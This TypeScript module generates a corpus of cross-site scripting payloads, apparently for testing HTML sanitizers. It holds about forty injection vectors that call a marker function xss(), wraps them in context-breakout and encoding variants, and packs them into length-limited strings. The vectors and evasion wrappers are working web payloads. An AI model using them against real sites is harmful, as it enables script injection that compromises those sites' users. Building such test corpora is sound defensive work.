/** Each inserts a call of `xss()` into a page in another way; a page that runs one of them is vulnerable. */
const vectors = [
  '<script>xss()</script>',
  '<script src=data:,xss()></script>',
  '<img src=x onerror=xss()>',
  '<img srcset=x onerror=xss()>',
  '<svg onload=xss()>',
  '<svg><script>xss()</script></svg>',
  '<svg><animate onbegin=xss() attributeName=x dur=1s>',
  '<svg><a href=javascript:xss()><text y=9>a</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg onload=xss()>">',
  '<svg><style><img src=x onerror=xss()></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=xss()>',
  '<math href=javascript:xss()>a</math>',
  '<body onload=xss()>',
  '<details open ontoggle=xss()>a</details>',
  '<video><source onerror=xss()></video>',
  '<audio src=x onerror=xss()></audio>',
  '<input autofocus onfocus=xss()>',
  '<select autofocus onfocus=xss()></select>',
  '<textarea autofocus onfocus=xss()></textarea>',
  '<iframe srcdoc="<script>parent.xss()</script>"></iframe>',
  '<iframe src=javascript:parent.xss()></iframe>',
  '<object data=javascript:xss()></object>',
  '<embed src=javascript:xss()>',
  '<a href=javascript:xss()>a</a>',
  '<a href="java&#9;script:xss()">a</a>',
  '<a href="&#1;javascript:xss()">a</a>',
  '<a href="data:text/html,<script>opener.xss()</script>">a</a>',
  '<form action=javascript:xss()><button>a</button></form>',
  '<button formaction=javascript:xss() form=f>a</button>',
  '<marquee onstart=xss()>a</marquee>',
  '<style onload=xss()>*{}</style>',
  '<link rel=stylesheet href=x onerror=xss()>',
  '<meta http-equiv=refresh content="0;url=javascript:xss()">',
  '<base href=javascript:xss()//>',
  '<noscript><p title="</noscript><img src=x onerror=xss()>">',
  '<p style="animation:a" onanimationstart=xss()>a</p>',
  '<p onpointerrawupdate=xss() onmouseover=xss()>a</p>',
  '<template shadowrootmode=open><img src=x onerror=xss()></template>',
  '<a data-video="x" href="javascript:xss()">a</a>',
  '[a](javascript:xss())',
  'javascript:xss()',
  'http://a.b/"onmouseover="xss()',
] as const;

const broken = (vector: string) => vector.replace(/>[^>]*$/, '');
/** Disguises of a payload, and ways to break out of its context. */
const disguises: ((vector: string) => string)[] = [
  (vector) => vector,
  (vector) => `"><i>${vector}`,
  (vector) => `'/>${vector}`,
  (vector) => `</title></textarea></script>${vector}`,
  (vector) => `-->${vector}<!--`,
  (vector) => vector.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (vector) => vector.replace(/^<(\w+) /, '<$1/x='),
  (vector) => vector.replace(/^<(\w+)/, (_, name: string) => `<${name.toUpperCase()}\n`),
  (vector) => `${broken(vector)} `,
  (vector) => JSON.stringify(vector).replaceAll('<', '\\u003c'),
];

/** Every payload, each another. */
export const payloads: readonly string[] = [
  ...new Set(disguises.flatMap((disguise) => vectors.map((vector) => disguise(vector).trim()))),
];

/** Joins the payloads into texts of at most `max` characters; payloads longer than that are left out. */
export function packed(max: number, between = '\n'): { text: string; count: number }[] {
  const texts: { text: string; count: number }[] = [];
  for (const payload of payloads.filter(({ length }) => length <= max)) {
    const last = texts.at(-1);
    const longer = last ? last.text + between + payload : payload;
    if (last && longer.length <= max) {
      last.text = longer;
      last.count += 1;
    } else texts.push({ text: payload, count: 1 });
  }
  return texts;
}
